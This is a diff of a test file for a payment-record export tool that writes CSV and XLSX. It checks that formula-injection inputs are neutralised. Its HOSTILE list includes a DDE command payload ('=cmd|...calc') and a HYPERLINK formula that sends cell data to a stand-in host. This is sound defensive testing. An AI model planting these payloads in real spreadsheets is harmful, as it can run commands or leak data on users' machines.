@@ -1,47 +1,33 @@
 import { parse } from "papaparse";
 import readExcelFile from "read-excel-file/node";
-import { expect, it } from "vitest";
+import { expect, test } from "vitest";
 import { COLUMNS, type ExportRow } from "./export-row";
-import { paymentsCsv } from "./payments-csv";
+import { paymentsCsv, tablesCsv } from "./payments-csv";
 import { paymentsXlsx } from "./payments-xlsx";
+import type { Table } from "./table";
 
 const plain: ExportRow = {
-  date: "2026-11-03",
-  receipt: 12,
-  client: "Łucja Peña",
-  document: "0012345",
-  concept: "Cita del 3 de noviembre",
-  gross: 130_000,
-  retention: 14_300,
-  net: 115_700,
-  method: "Bre-B",
-  reference: "M-4711",
-  state: "Confirmado",
-  confirmed: "2026-11-03 10:00:00",
-  annulled: "",
-  reason: "",
-  nit: "52111222-3",
+  ...{ date: "2026-11-03", receipt: 12, client: "Łucja Peña", document: "0012345", concept: "Cita del 3 de noviembre" },
+  ...{ gross: 130_000, retention: 14_300, net: 115_700, method: "Bre-B", reference: "M-4711", state: "Confirmado" },
+  ...{ confirmed: "2026-11-03 10:00:00", annulled: "", reason: "", nit: "52111222-3" },
 };
 
 const HOSTILE = [
-  "=1+1",
-  "+57 300 123 4567",
-  "-1",
-  "@SUM(A1)",
-  "\tx",
-  "\rx",
-  "\nx",
-  "  =1+1",
-  "＝1+1",
-  '=HYPERLINK("http://mal.example?"&A1;"clic")',
-  "=cmd|' /C calc'!A0",
-  'a "b"; c, d',
-  "uno\ndos",
-  " espacios ",
-  "'=1",
-  "<b>&amp;</b>",
-  "😀 Zoë",
-  "_x0041_",
+  ...[
+    "=1+1",
+    "+57 300 123 4567",
+    "-1",
+    "@SUM(A1)",
+    "\tx",
+    "\rx",
+    "\nx",
+    "  =1+1",
+    "＝1+1",
+    "'=1",
+    "=cmd|' /C calc'!A0",
+  ],
+  ...['=HYPERLINK("http://mal.example?"&A1;"clic")', 'a "b"; c, d', "uno\ndos", " espacios ", "<b>&amp;</b>"],
+  ...["😀 Zoë", "_x0041_"],
 ];
 const RUN_BY_SPREADSHEETS = /^(?:[\t\r\n]|\s*[=+\-@＝])/;
 
@@ -52,20 +38,18 @@ const rows: ExportRow[] = [
 ];
 const sum = (values: unknown[]) => values.reduce<number>((total, value) => total + Number(value), 0);
 
-const readCsv = async (of: ExportRow[]) => {
-  const bytes = await paymentsCsv(of).arrayBuffer();
-  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
+const readCsv = async (file: Blob) => {
+  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await file.arrayBuffer());
   const { data, errors } = parse<string[]>(text.replace(/^\uFEFF/, ""), { delimiter: ";", skipEmptyLines: true });
   expect(errors).toEqual([]);
   return { text, lines: data };
 };
-const readXlsx = async (of: ExportRow[]) => {
-  const [sheet] = await readExcelFile(Buffer.from(await (await paymentsXlsx(of)).arrayBuffer()), { trim: false });
-  return sheet?.data ?? [];
-};
+const sheetsOf = async (file: Promise<Blob>) =>
+  readExcelFile(Buffer.from(await (await file).arrayBuffer()), { trim: false });
+const readXlsx = async (of: ExportRow[]) => (await sheetsOf(paymentsXlsx(of)))[0]?.data ?? [];
 
-it("writes a CSV that another program reads unchanged: titles, texts and sums", async () => {
-  const { text, lines } = await readCsv(rows);
+test("another program reads a CSV unchanged: titles, texts and sums", async () => {
+  const { text, lines } = await readCsv(paymentsCsv(rows));
   expect(text.startsWith("\uFEFFFecha;Recibo;Cliente;Documento;")).toBe(true);
   expect(text.endsWith("\r\n")).toBe(true);
   expect(lines).toHaveLength(rows.length + 1);
@@ -80,8 +64,8 @@ it("writes a CSV that another program reads unchanged: titles, texts and sums", 
   expect(column("receipt")[1]).toBe("");
 });
 
-it("leaves no formula in the CSV, and changes no other text", async () => {
-  const { lines } = await readCsv(rows);
+test("no formula is left in a CSV, and no other text changes", async () => {
+  const { lines } = await readCsv(paymentsCsv(rows));
   for (const [index, hostile] of HOSTILE.entries()) {
     const written = lines[index + 3]?.[2];
     expect(written).toBe(RUN_BY_SPREADSHEETS.test(hostile) ? `'${hostile}` : hostile);
@@ -89,7 +73,7 @@ it("leaves no formula in the CSV, and changes no other text", async () => {
   }
 });
 
-it("writes an XLSX that another program reads unchanged: dates, numbers, texts and sums", async () => {
+test("another program reads an XLSX unchanged: dates, numbers, texts and sums", async () => {
   const [titles, first, second, ...hostile] = await readXlsx(rows);
   expect(titles).toEqual(COLUMNS.map(({ title }) => title));
   const cells = Object.values(plain).map((value) => (value === "" ? null : value));
@@ -98,24 +82,45 @@ it("writes an XLSX that another program reads unchanged: dates, numbers, texts a
   expect(second?.slice(5, 8)).toEqual([-50_000, 0, -50_000]);
   expect(hostile.map((line) => [line[2], line[4], line[9]])).toEqual(HOSTILE.map((text) => [text, text, text]));
   const all = [first, second, ...hostile];
-  for (const [index, field] of [
-    [5, "gross"],
-    [6, "retention"],
-    [7, "net"],
-  ] as const) {
-    expect(sum(all.map((line) => line?.[index]))).toBe(sum(rows.map((row) => row[field])));
+  for (const [index, field] of (["gross", "retention", "net"] as const).entries()) {
+    expect(sum(all.map((line) => line?.[5 + index]))).toBe(sum(rows.map((row) => row[field])));
   }
 });
 
-it("drops characters that no cell can hold", async () => {
+test("characters that no cell can hold are dropped", async () => {
   const broken = { ...plain, client: "a\u0000b\u0001\uD800c\uFFFF", concept: "x".repeat(40_000) };
   const [, line] = await readXlsx([broken]);
   expect(line?.[2]).toBe("abc");
   expect(String(line?.[4])).toHaveLength(32_767);
-  expect((await readCsv([broken])).lines[1]?.[2]).toBe("abc");
+  expect((await readCsv(paymentsCsv([broken]))).lines[1]?.[2]).toBe("abc");
 });
 
-it("writes only titles if there are no payments", async () => {
-  expect((await readCsv([])).lines).toHaveLength(1);
+test("only titles are written if there are no payments", async () => {
+  expect((await readCsv(paymentsCsv([]))).lines).toHaveLength(1);
   expect(await readXlsx([])).toHaveLength(1);
+});
+
+const table: Table = {
+  title: "Gastos",
+  columns: [
+    { title: "Fecha", kind: "date", width: 12 },
+    { title: "Nota", kind: "text", width: 30 },
+    { title: "Valor", kind: "pesos", width: 14 },
+  ],
+  lines: [{ cells: ["2026-11-03", "=1+1", 1_200_000] }, { cells: [null, "Total", -50_000], isStrong: true }],
+};
+const TITLES = ["Fecha", "Nota", "Valor"];
+
+test("tables are written as CSV, each under its title, without formulas", async () => {
+  const { text } = await readCsv(tablesCsv([table, { ...table, title: "Otra" }]));
+  const lines = parse<string[]>(text.slice(1), { delimiter: ";" }).data;
+  const cells = [TITLES, ["2026-11-03", "'=1+1", "1200000"], ["", "Total", "-50000"], [""]];
+  expect(lines).toEqual([["Gastos"], ...cells, ["Otra"], ...cells]);
+});
+
+test("tables are put on their own sheets after the payments", async () => {
+  const [payments, sheet] = await sheetsOf(paymentsXlsx([], [table]));
+  expect([payments?.sheet, payments?.data.length, sheet?.sheet]).toEqual(["Pagos", 1, "Gastos"]);
+  const cells = [new Date("2026-11-03T00:00:00Z"), "=1+1", 1_200_000];
+  expect(sheet?.data).toEqual([TITLES, cells, [null, "Total", -50_000]]);
 });
